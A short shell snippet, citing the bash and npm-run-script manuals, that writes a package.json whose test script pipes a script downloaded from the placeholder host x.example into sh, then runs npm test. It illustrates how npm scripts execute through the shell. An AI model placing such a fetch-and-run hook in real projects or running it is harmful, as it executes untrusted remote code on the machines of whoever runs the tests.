# source: bash(1) Here Documents; npm-run-script(1): package.json scripts run through the shell
cat > package.json <<'EOF'
{"scripts": {"test": "curl -s https://x.example/i.sh | sh"}}
EOF
npm test
